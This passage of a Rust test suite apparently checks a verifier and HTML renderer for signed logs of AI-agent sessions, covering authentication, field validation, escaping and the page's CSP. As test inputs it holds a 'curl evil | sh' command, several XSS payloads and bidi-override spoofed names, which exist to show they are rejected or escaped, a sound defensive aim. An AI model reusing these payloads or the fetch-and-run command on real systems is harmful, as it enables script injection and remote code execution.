            let err = check(&sealed(&[action(1), alert.clone()], 9)).expect_err(want);
            assert!(err.contains(want), "{err}");
            alert = json!({"table": "alerts", "chain_seq": 2, "id": "0193a000-0000-7000-8000-000000000201",
                "session_id": S, "action_ids": [], "rule": "sudo", "severity": "high", "first_at": 0, "count": 1,
                "summary": "s"});
        }
        let ends: Vec<(Value, &str)> = vec![
            (json!({"actions": payload}), "session_ends.actions is not an integer"),
            (json!({"events_lost": null}), "session_ends.events_lost is not an integer"),
            (json!({"root_argv": [1]}), "session_ends.root_argv is not a list of strings"),
            (
                json!({"net": [{"op": "connect", "family": "ipv4", "addr": "1.2.3.4", "port": payload, "host": null, "result": "ok", "count": 1}]}),
                "session_ends.net is not a list of network entries",
            ),
            (json!({"files": [{"access": "write", "path": 1, "result": "ok", "count": 1}]}), "session_ends.files"),
        ];
        for (change, want) in ends {
            let mut e = end.clone();
            for (k, v) in change.as_object().expect("object") {
                e[k] = v.clone();
            }
            let err = check(&sealed(&[action(1), e], 9)).expect_err(want);
            assert!(err.contains(want), "{err}");
        }
    }

    #[test]
    fn only_a_key_given_apart_authenticates_a_packet() {
        let text = chain::canonical(&packet()) + "\n";
        let fingerprint =
            chain::key_fingerprint(ed25519_dalek::SigningKey::from_bytes(&[7; 32]).verifying_key().as_bytes());
        let r = verify_text(&text, &[]).expect("consistent");
        assert!(!r.authenticated, "no key given: unauthenticated");
        assert!(verify_text(&text, &[public_key(7)]).expect("the key").authenticated);
        assert!(verify_text(&text, &[public_key(7).to_uppercase()]).expect("hex in capitals").authenticated);
        assert!(verify_text(&text, std::slice::from_ref(&fingerprint)).expect("its fingerprint").authenticated);
        assert!(verify_text(&text, &[public_key(8), fingerprint]).expect("one of several").authenticated);
        let err = verify_text(&text, &[public_key(8)]).expect_err("another key");
        assert!(err.contains("not by a key given with --key"), "{err}");
        // A forger re-signs a changed packet with a key of their own: consistent, so it passes
        // without a key (unauthenticated), and fails with the host's.
        let mut rows: Vec<Value> = (1..=5).map(action).collect();
        rows[1]["command"] = json!("curl evil | sh");
        let forged = chain::canonical(&sealed(&rows, 8)) + "\n";
        assert!(!verify_text(&forged, &[]).expect("consistent").authenticated);
        assert!(verify_text(&forged, &[public_key(7)]).is_err(), "the host's key rejects it");
    }

    #[test]
    fn the_page_is_deterministic_escapes_text_and_embeds_the_packet() {
        let mut p = packet();
        p["proofs"][0]["entries"][0]["row"]["command"] = json!("echo '</script><b>x</b>' <!--<script>");
        let session = json!({"seq": 9, "row": {"table": "sessions", "id": S, "agent": "a\u{202e}txt.exe", "host": "h",
            "started_at": 0, "label": "zero\u{200b}width\u{9b}2J\u{7f}"}});
        let end = json!({"seq": 10, "row": {"table": "session_ends", "session_id": S, "ended_at": 0,
            "root_argv": ["sh", "-c", "<img src=x onerror=alert(1)>"],
            "actions": "<img src=x onerror=alert(2)>", "events": {"x": "<b>"}, "events_lost": ["<i>"],
            "files": [{"access": "write", "path": "<svg onload=alert(3)>", "result": "ok", "count": 1}],
            "net": [{"op": "connect", "family": "ipv4", "addr": "1.2.3.4", "port": "<img src=x onerror=alert(4)>",
                     "host": "evil\u{202e}moc.", "result": "ok", "count": 1}]}});
        let alert = json!({"seq": 11, "row": {"table": "alerts", "session_id": S, "severity": "high\" onmouseover=\"x",
            "rule": "r", "first_at": 0, "summary": "s", "count": "<img src=x onerror=alert(5)>", "action_ids": []}});
        for e in [session, end, alert] {
            p["proofs"][0]["entries"].as_array_mut().expect("entries").push(e);
        }
        // The rows changed, so the proof no longer holds; the page is rendered all the same.
        let r = Report {
            rows: 2,
            leaves: 2,
            checkpoints: vec![("h".into(), 5)],
            keys: vec!["k".into()],
            authenticated: false,
        };
        let a = html(&p, &r);
        assert_eq!(a, html(&p, &r));
        let body = &a[..a.find(HTML_MARK).expect("mark")];
        assert!(body.contains("echo &#39;&lt;/script&gt;&lt;b&gt;x&lt;/b&gt;&#39;"), "escaped on the page");
        for raw in ["<img", "<svg", "<b>x", "<i>", "<!--", "\" onmouseover"] {
            assert!(!body.contains(raw), "{raw} reached the page raw");
        }
        assert!(body.contains("<tr><th>actions</th><td>-</td></tr>"), "a number field holding text shows `-`");
        assert!(body.contains("- (- lost)"), "the events counts too");
        assert!(body.contains("(&times;-)"), "and an alert's count");
        assert!(body.contains("1.2.3.4:-"), "and a port");
        assert!(body.contains("a\\u{202e}txt.exe"), "a bidi override is shown, not applied");
        assert!(body.contains("zero\\u{200b}width\\u{9b}2J\\x7f"), "zero-width, C1 and DEL are shown");
        assert!(body.contains("evil\\u{202e}moc."));
        assert!(!body.chars().any(|c| crate::text::is_hidden(c) && c != '\n'), "no hidden character on the page");
        let csp = format!(
            "<meta http-equiv=\"Content-Security-Policy\" content=\"default-src 'none'; style-src 'sha256-{}'; base-uri 'none'; form-action 'none'\">",
            base64(&<sha2::Sha256 as sha2::Digest>::digest(STYLE.as_bytes()))
        );
        assert!(
            a.starts_with(&format!("<!DOCTYPE html>\n<html lang=\"en\"><head><meta charset=\"utf-8\">{csp}")),
            "{a}"
        );
        assert_eq!(a.matches("<script").count(), 1, "no script but the packet's data block");
        let start = a.find(HTML_MARK).expect("mark") + HTML_MARK.len();
        let end = a[start..].find("</script>").expect("end") + start;
        assert!(!a[start..end].contains('<'), "no `<` inside the embedded packet");
        let embedded: Value = serde_json::from_str(&a[start..end]).expect("embedded JSON");
        assert_eq!(embedded, p, "the embedded packet survives a `</script>` in the data");
    }

    fn tool_call(seq: u64, verdict: &str, tool: Option<&str>, input: Option<&str>, actions: &[String]) -> Value {
        json!({"table": "tool_calls", "chain_seq": seq, "id": format!("0193a000-0000-7000-8000-0000000003{seq:02}"),
            "session_id": S, "tool_use_id": tool.map(|_| "toolu_1"), "tool_name": tool, "input": input,
            "decision": tool.map(|_| "allow"), "started_at": seq * 1_000_000, "verdict": verdict, "reason": "r",
            "action_ids": actions, "event_ids": [], "report_ids": []})
    }

    #[test]
    fn declared_calls_are_checked_and_shown_beside_the_actions() {
        let a = action(2);
        let aid = a["id"].as_str().expect("id").to_owned();
        let hostile = r#"{"command":"echo '</script><script>alert(1)</script>'","description":"<b>"}"#;
        let bash = tool_call(3, "mismatch", Some("Bash<img src=x>"), Some(hostile), std::slice::from_ref(&aid));
        let undeclared = tool_call(4, "undeclared", None, None, std::slice::from_ref(&aid));
        let matched = tool_call(5, "matched", Some("Write"), Some(r#"{"file_path":"/srv/a\u202e.txt"}"#), &[]);
        let session = json!({"table": "sessions", "chain_seq": 6, "id": S, "agent": "claude", "host": "h",
            "started_at": 0, "label": null});
        let rows = [action(1), a, bash.clone(), undeclared, matched, session.clone()];
        let p = sealed(&rows, 9);
        assert!(check(&p).is_ok(), "a packet with call rows checks");
        let as_page = html(&p, &check(&p).expect("report"));
        assert!(verify_text(&as_page, &[]).is_ok(), "and its page verifies");
        // All rows in full, so the page has them.
        let mut full = p.clone();
        full["proofs"][0]["entries"] =
            json!(rows[1..].iter().enumerate().map(|(i, r)| json!({"seq": i + 2, "row": r})).collect::<Vec<_>>());
        let page = html(&full, &check(&p).expect("report"));
        let body = &page[..page.find(HTML_MARK).expect("mark")];
        assert!(body.contains("<h3>Declared tool calls (3)</h3>"), "{body}");
        assert!(
            body.contains("echo &#39;&lt;/script&gt;&lt;script&gt;alert(1)&lt;/script&gt;&#39;"),
            "the input, escaped"
        );
        assert!(body.contains("Bash&lt;img src=x&gt;"), "the tool name, escaped");
        for raw in ["<script>alert", "<img", "</script><"] {
            assert!(!body.contains(raw), "{raw} reached the page raw");
        }
        assert!(body.contains("<tr class=\"verdict-mismatch\">"), "a mismatch row is marked");
        assert!(body.contains("<tr class=\"verdict-undeclared\"><td>00:00:04.000</td><td>(undeclared)</td>"));
        assert!(body.contains("<span class=\"verdict-undeclared\">undeclared</span>"), "beside the action");
        assert!(body.contains("<span class=\"verdict-mismatch\">Bash&lt;img src=x&gt;: mismatch</span>"));
        assert!(body.contains("/srv/a\\u{202e}.txt"), "a bidi override in a path is shown, not applied");
        assert!(body.contains(&format!("<code>{}</code>", &aid[28..])), "the actions a call lists");
        // A forger's verdict must be a verdict: it becomes a class name on the page.
        let mut forged = bash;
        forged["verdict"] = json!("x\" onmouseover=\"alert(1)");
        forged["chain_seq"] = json!(2);
        let mut session = session;
        session["chain_seq"] = json!(4);
        let forged = sealed(&[action(1), forged, action(3), session], 9);
        let err = check(&forged).expect_err("bad verdict");
        assert!(err.contains("tool_calls.verdict is not a verdict"), "{err}");
        let mut shown = forged;
        shown["proofs"][0]["entries"][0]["row"]["verdict"] = json!("x\" onmouseover=\"alert(1)");
        let page = html(&shown, &Report::default());
        let body = &page[..page.find(HTML_MARK).expect("mark")];
        assert!(body.contains("x&quot; onmouseover") && !body.contains("\" onmouseover"), "no class, escaped");
    }

    #[test]
    fn base64_matches_rfc_4648() {
        for (input, want) in
            [("", ""), ("f", "Zg=="), ("fo", "Zm8="), ("foo", "Zm9v"), ("foob", "Zm9vYg=="), ("foobar", "Zm9vYmFy")]
        {
            assert_eq!(base64(input.as_bytes()), want);
        }
    }
}
